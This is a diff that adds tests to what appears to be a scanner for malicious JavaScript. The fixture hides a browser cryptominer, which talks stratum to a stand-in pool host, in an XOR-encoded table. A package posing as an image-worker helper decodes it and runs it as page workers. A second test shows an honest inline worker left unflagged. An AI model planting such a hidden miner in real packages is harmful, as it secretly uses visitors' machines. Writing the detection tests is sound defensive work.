@@ -275,3 +275,47 @@ describe('files overwritten through a descriptor (round 88)', () => {
     expect(ruleOf(r, 'js.destructive-user-data')).toBeUndefined();
   });
 });
+
+describe('code decoded into a Blob and run as a page worker (round 86)', () => {
+  const miner =
+    "const ws = new WebSocket('wss://pool.example:3333'); ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['webminer/1.0'] })); ws.onmessage = (m) => { const job = JSON.parse(m.data); if (job.method === 'mining.notify') ws.send(JSON.stringify({ id: 4, method: 'mining.submit', params: ['w', job.params[0], '00', '00', '00'] })); };";
+  const page = (decoder: string[], data: string) => ({
+    'package.json': JSON.stringify({ name: 'offthread-image', version: '1.3.0', main: 'index.js' }),
+    'table.js': `module.exports = ${data};`,
+    'index.js': [
+      "const table = require('./table');",
+      ...decoder,
+      'function warm() {',
+      "  const url = URL.createObjectURL(new Blob([unpack(table)], { type: 'text/javascript' }));",
+      '  for (let i = 0; i < 2; i++) new Worker(url);',
+      '}',
+      "if (typeof window !== 'undefined') setTimeout(warm, 3000);",
+    ].join('\n'),
+  });
+  it('reads the worker code an XOR table decodes, and what it does', () => {
+    const key = 'DQT-q75';
+    const packed = [...miner].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length));
+    const r = analyzeSource(
+      page(
+        [
+          'function unpack(t) {',
+          "  let out = '';",
+          '  for (let i = 0; i < t.packed.length; i++) out += String.fromCharCode(t.packed[i] ^ t.id.charCodeAt(i % t.id.length));',
+          '  return out;',
+          '}',
+        ],
+        JSON.stringify({ id: key, packed }),
+      ),
+    );
+    expect(ruleOf(r, 'js.stratum-session')?.threat_type).toBe('malicious_code');
+    expect(r.risk_level).toBe('critical');
+  });
+  it("leaves a bundler's base64 inline worker that does honest work alone", () => {
+    const honest =
+      'self.onmessage = (e) => { const { w, h } = e.data; self.postMessage({ w: w >> 1, h: h >> 1 }); };';
+    const r = analyzeSource(
+      page(['const unpack = (t) => atob(t.b64);'], JSON.stringify({ b64: b64(honest) })),
+    );
+    expect(threats(r)).toEqual([]);
+  });
+});
